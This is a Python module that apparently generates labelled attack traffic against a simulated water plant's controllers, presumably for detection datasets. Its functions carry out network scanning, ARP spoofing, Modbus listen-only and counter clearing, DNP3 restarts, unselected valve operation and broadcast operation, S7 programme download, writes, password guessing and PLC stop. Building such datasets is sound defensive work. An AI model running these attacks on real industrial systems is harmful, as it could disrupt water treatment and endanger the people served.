"""The attacks, each alone: a function is one attack, and its name says which.

The rule it lives by: real stacks where they do it, bytes by hand where a decent stack refuses; each step is told to the
story as it is done, so that what the declaration promises can be held against what was sent.
"""

import datetime as dt
import time

from snap7.type import Block

from pcaps.make import intruder, modbus_client, s7_client, scan
from pcaps.make.plant import MASTER_ADDRESS, address
from tests.lab import dnp3_wire as wire

PAUSE = 0.15  # s between two steps of a script
ALIEN = 99  # a DNP3 link address that is no master's here


# --- The network --------------------------------------------------------------------------------------


def network_scan(_):
    """Ask who has each address."""
    scan.arp_sweep("laptop")


def port_scan(_):
    """Knock at each port of one controller."""
    scan.port_scan(address("intake"))


def arp_spoofing(_):
    """Stand between control room and tower for five seconds."""
    scan.spoof("laptop", "hmi", "tower", seconds=5)


def controller_sweep(story):
    """Read one thing from each controller that answers."""
    for target in ("intake", "booster"):
        _modbus(story, target, ("read_holding_registers", {"device_id": 1, "address": 0, "count": 2}))
    session = s7_client.Session(story, "filter", s7_client.PG)
    session.act("read", "read_var DB1.DBB0-3", "db_read", 1, 0, 4)
    session.close()


# --- Modbus -------------------------------------------------------------------------------------------


def _modbus(story, target, *requests):
    session = modbus_client.Session(story, target)
    for method, arguments in requests:
        session.act(method, **arguments)
        time.sleep(PAUSE)
    session.close()


def modbus_function_scan(story):
    """Try what the wells' controller can do."""
    one = {"device_id": 1}
    _modbus(
        story,
        "intake",
        ("read_exception_status", one),
        ("diag_query_data", {**one, "msg": b"\xa5\x37"}),
        ("report_device_id", one),
        ("diag_get_comm_event_counter", one),
        ("diag_get_comm_event_log", one),
        ("read_fifo_queue", {**one, "address": 4}),
        ("read_coils", {**one, "address": 0, "count": 1}),
        ("read_input_registers", {**one, "address": 0, "count": 1}),
        ("read_holding_registers", {**one, "address": 0, "count": 1}),
    )


def modbus_point_scan(story):
    """Try where the registers of the wells' controller end."""
    starts = range(100, 2500, 100)
    _modbus(
        story, "intake", *(("read_holding_registers", {"device_id": 1, "address": at, "count": 10}) for at in starts)
    )


def modbus_clear_counters(story):
    """Clear the counters that would show what was done."""
    _modbus(story, "intake", ("diag_clear_counters", {"device_id": 1}))


def modbus_restart_communications(story):
    """Restart the communications of the wells' controller."""
    _modbus(story, "intake", ("diag_restart_communication", {"device_id": 1, "toggle": True}))


def modbus_force_listen_only(story):
    """Make the wells' controller deaf, and wake it after three seconds."""
    session = modbus_client.Session(story, "intake")
    session.act("diag_force_listen_only", device_id=1)
    time.sleep(3)
    session.act("diag_restart_communication", device_id=1, toggle=False)
    session.close()


# --- DNP3 ---------------------------------------------------------------------------------------------


def _dnp3(story, *requests, own=MASTER_ADDRESS, target="tower"):
    line = wire.Line(story, target, own)
    for action, detail, function, objects, *to in requests:
        line.ask(action, detail, function, objects, to=to[0] if to else None)
        time.sleep(PAUSE)
    line.close()


def dnp3_integrity_poll(story):
    """Read everything the tower knows."""
    _dnp3(story, ("read", "read classes=1,2,3,0", wire.READ, wire.EVERYTHING))


def dnp3_cold_restart(story):
    """Restart the tower's terminal unit as after power-up."""
    _dnp3(story, ("restart", "cold_restart", wire.COLD_RESTART, b""))


def dnp3_warm_restart(story):
    """Restart the tower's terminal unit, warm."""
    _dnp3(story, ("restart", "warm_restart", wire.WARM_RESTART, b""))


def dnp3_stop_application(story):
    """Try to stop the terminal unit's application; this unit does not know the function."""
    _dnp3(story, ("stop", "stop_application", wire.STOP_APPLICATION, b""))


def dnp3_direct_operate(story):
    """Operate both valves without selecting them."""
    _dnp3(
        story,
        ("operate", "direct_operate g12v1 index=0", wire.DIRECT_OPERATE, wire.latch(0, 0x81)),
        ("operate", "direct_operate g12v1 index=1", wire.DIRECT_OPERATE, wire.latch(1, 0x81)),
    )


def dnp3_operate_without_select(story):
    """Send the second half of select-before-operate alone; the terminal unit refuses it."""
    _dnp3(story, ("operate", "operate g12v1 index=0", wire.OPERATE, wire.latch(0, 0x81)))


def dnp3_select_and_operate(story):
    """Operate a valve in good order, from the wrong machine."""
    _dnp3(
        story,
        ("select", "select g12v1 index=1", wire.SELECT, wire.latch(1, 0x41)),
        ("operate", "operate g12v1 index=1", wire.OPERATE, wire.latch(1, 0x41)),
    )


def dnp3_disable_unsolicited(story):
    """Forbid the reservoir to report by itself."""
    _dnp3(
        story,
        ("subscribe", "disable_unsolicited classes=1,2,3", wire.DISABLE_UNSOLICITED, wire.CLASSES),
        target="reservoir",
    )


def dnp3_file_write(story):
    """Try to write a configuration file; this unit knows no files."""
    _dnp3(story, ("file", "open_file g70v3", wire.OPEN_FILE, wire.file_command(b"/config.xml", 2)))


def dnp3_file_delete(story):
    """Try to delete a configuration file; this unit knows no files."""
    _dnp3(story, ("file", "delete_file g70v3", wire.DELETE_FILE, wire.file_command(b"/config.xml", 0)))


def dnp3_dead_band(story):
    """Try to widen a dead band; this unit knows none."""
    _dnp3(story, ("write", "write g34v1 index=0", wire.WRITE, bytes((34, 1, 0x17, 1, 0, 0xFF, 0x7F))))


def dnp3_time_write(story):
    """Set the tower's clock back to 1970."""
    _dnp3(story, ("time_set", "write g50v1", wire.WRITE, bytes((50, 1, 7, 1, 1, 0, 0, 0, 0, 0))))


def dnp3_clear_counters(story):
    """Set the tower's counters to zero."""
    _dnp3(story, ("other", "freeze_and_clear g20v0", wire.FREEZE_AND_CLEAR, bytes((20, 0, 6))))


def dnp3_reconfigure(story):
    """Try to initialise the application and to activate a configuration; this unit knows neither."""
    _dnp3(
        story,
        ("start", "initialize_application", wire.INITIALIZE_APPLICATION, bytes((90, 1, 6))),
        ("write", "activate_configuration", wire.ACTIVATE_CONFIGURATION, b""),
    )


def dnp3_broadcast(story):
    """Operate a valve of every station on this line with one message that none confirms."""
    _dnp3(story, ("operate", "direct_operate g12v1 index=0", wire.DIRECT_OPERATE, wire.latch(0, 0x81), wire.BROADCAST))


# --- S7 -----------------------------------------------------------------------------------------------


def _s7(story, *deeds):
    session = s7_client.Session(story, "filter", s7_client.PG)
    for action, detail, method, *arguments in deeds:
        session.act(action, detail, method, *arguments)
        time.sleep(PAUSE)
    session.close()


def s7_identify(story):
    """Read who the filter controller is."""
    session = s7_client.Session(story, "filter", s7_client.PG)
    for number, index in ((0x0011, 0), (0x001C, 0), (0x0131, 1)):
        session.szl(number, index)
        time.sleep(PAUSE)
    session.close()


def s7_mode_read(story):
    """Read whether the filter controller runs."""
    session = s7_client.Session(story, "filter", s7_client.PG)
    session.szl(0x0424)
    session.close()


def s7_slot_sweep(story):
    """Try in which slot the CPU sits."""
    for slot in (0, 1, 3, 4, 2):
        s7_client.Session(story, "filter", s7_client.PG, slot).close()
        time.sleep(PAUSE)


def s7_io_read(story):
    """Read inputs and outputs of the filter controller."""
    _s7(
        story,
        ("read", "read_var QB0-7", "ab_read", 0, 8),
        ("read", "read_var IB0-7", "eb_read", 0, 8),
    )


def s7_block_list(story):
    """List the blocks of the filter programme."""
    _s7(
        story,
        ("diagnose", "block_list", "list_blocks"),
        ("diagnose", "block_list_of_type type=DB", "list_blocks_of_type", Block.DB, 100),
        ("diagnose", "block_info block=DB10", "get_block_info", Block.DB, 10),
    )


def s7_program_download(story):
    """Replace the filter programme and make it lasting."""
    _s7(
        story,
        ("program_download", "request_download block=DB10", "download", bytearray(600), 10),
        ("program_download", "pi_service service=_MODU", "copy_ram_to_rom"),
    )


def s7_output_write(story):
    """Switch outputs of the filter controller."""
    _s7(story, ("write", "write_var QB0-1", "ab_write", 0, bytearray(b"\xff\xff")))


def s7_set_point_write(story):
    """Overwrite a set point of the filters."""
    _s7(story, ("write", "write_var DB2.DBB0-3", "db_write", 2, 0, bytearray(b"\x42\xc6\x00\x00")))


def s7_clock_set(story):
    """Set the filter controller's clock back by a year."""
    past = dt.datetime.now(tz=dt.UTC).replace(tzinfo=None) - dt.timedelta(days=365)
    _s7(story, ("time_set", "clock_set", "set_plc_datetime", past))


def s7_password_attempts(story):
    """Try three passwords."""
    tries = (("authenticate", "password", "set_session_password", word) for word in ("siemens", "12345678", "filter"))
    _s7(story, *tries)


def s7_start(story):
    """Start the running filter controller again, hot."""
    _s7(story, ("start", "plc_start service=P_PROGRAM hot", "plc_hot_start"))


def s7_stop(story):
    """Stop the filter controller."""
    _s7(story, ("stop", "plc_stop", "plc_stop"))


# --- One after the other ------------------------------------------------------------------------------


def reconnaissance_then_command(story):
    """Ask the filter controller who it is and how it stands, steal its programme, stop it."""
    s7_identify(story)
    s7_mode_read(story)
    intruder.steal_program(story)
    s7_stop(story)
